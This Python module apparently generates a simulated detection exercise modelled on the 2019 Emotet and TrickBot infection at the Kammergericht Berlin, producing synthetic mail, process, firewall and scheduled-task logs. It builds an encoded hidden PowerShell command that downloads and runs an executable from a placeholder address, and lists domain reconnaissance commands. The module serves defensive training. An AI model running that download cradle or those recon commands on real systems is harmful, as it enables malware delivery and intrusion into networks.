"""Kammergericht Berlin, September 2019: Emotet in an answer to a real mail, then TrickBot, seen by where it connects.

What was reported (the forensic report published in January 2020, the Senate's answers): Emotet came in, in all
likelihood by mail, and fetched TrickBot; it took passwords of browsers and of the domain and could have taken any data;
it was noticed because the city's provider saw connections to servers of the malware. Emotet's documents start
PowerShell over WMI, its servers are bare addresses at ports such as 8080 and 7080; TrickBot asks for the domain.
"""

from base64 import b64encode
from datetime import timedelta

from sentinel.testing.city import mail, services, windows
from sentinel.testing.city.firewalls import Flow, traffic
from sentinel.testing.city.town import DC1, Person
from sentinel.testing.city.windows import SYSTEM
from sentinel.testing.scene import About, Scene

ABOUT = About(
    "A mail in a known thread, and what it fetches",
    "high",
    (7, 10),
    timedelta(hours=50),
    "Kammergericht Berlin, September 2019",
)
_SHELL, _CMD = f"{SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe", f"{SYSTEM}cmd.exe"
_SERVERS = (("203.0.113.21", 8080), ("203.0.113.22", 7080), ("203.0.113.23", 449), ("203.0.113.24", 447))


def tell(scene: Scene) -> None:
    """Tell it, with an answer in a thread that is a real one beside it."""
    rng, victim = scene.rng, scene.someone("rathaus")
    letter = mail.Message(
        "kanzlei@kanzlei.example",
        victim.mail,
        "Re: Ihr Schreiben vom 12. des Monats",
        96_000,
        ("host-21.example.com", "203.0.113.45"),
    )
    scene.say("an answer in a thread", *mail.arrives(scene.begin, letter, rng))
    order = b64encode(
        "$a='http://203.0.113.80/wp/1/';(New-Object Net.WebClient).DownloadFile($a,$env:tmp+'\\844.exe')".encode(
            "utf-16-le"
        )
    )
    program = f"C:\\Users\\{victim.login}\\844.exe"
    at = scene.after(minutes=17)
    scene.say(
        "the document starts PowerShell",
        windows.process(
            at,
            victim.host,
            victim.login,
            _SHELL,
            f"powershell -w hidden -e {order.decode()}",
            f"{SYSTEM}wbem\\WmiPrvSE.exe",
        ),
        services.fetched(at + timedelta(seconds=2), victim.address, "", "http://203.0.113.80/wp/1/", 188_416),
        windows.written(at + timedelta(seconds=4), victim.host, victim.login, _SHELL, program),
        windows.process(at + timedelta(seconds=6), victim.host, victim.login, program, program, _SHELL),
    )
    for number in range(130):
        at = scene.after(minutes=20 + 15 * number, seconds=rng.uniform(-60, 60))
        server, port = _SERVERS[number % 2 + (2 if number > 60 else 0)]
        action = "deny" if number % 3 == 0 else "close"
        flow = Flow(victim.address, server, port, 1400, 3100, 4, country="Example")
        scene.say("bare addresses at odd ports", traffic(at, flow, rng, action))
    _looks_around(scene, victim, program)
    _twin(scene)


def _looks_around(scene: Scene, victim: Person, program: str) -> None:
    for number, command in enumerate(
        (
            "nltest /domain_trusts /all_trusts",
            'net group "Domain Admins" /domain',
            "ipconfig /all",
            "net view /all /domain",
            "whoami /groups",
        )
    ):
        at = scene.after(hours=18, seconds=number * 4)
        image = f"{SYSTEM}{command.split()[0]}.exe"
        line = windows.process(at, victim.host, victim.login, image, command, program)
        scene.say("what is there in the domain", line, decisive=number == 1)
    at = scene.after(hours=26)
    scene.say(
        "it stays",
        windows.task(
            at, victim.host, victim.login, "Msnetcs", f"C:\\Users\\{victim.login}\\AppData\\Roaming\\netcs\\844.exe"
        ),
        windows.refused(at + timedelta(minutes=3), DC1.host, "administrator", victim.address),
    )


def _twin(scene: Scene) -> None:
    other = scene.someone("liegenschaften")
    real = mail.Message(
        "kanzlei@kanzlei.example",
        other.mail,
        "Re: Ihr Schreiben vom 14. des Monats",
        44_000,
        ("mail.kanzlei.example", "198.51.100.41"),
    )
    scene.twin("a real answer", *mail.arrives(scene.after(hours=4), real, scene.rng))
    at = scene.after(hours=5)
    scene.twin(
        "the help desk looks at a computer",
        windows.process(at, other.host, "adm-roth", f"{SYSTEM}ipconfig.exe", "ipconfig /all", _CMD),
    )
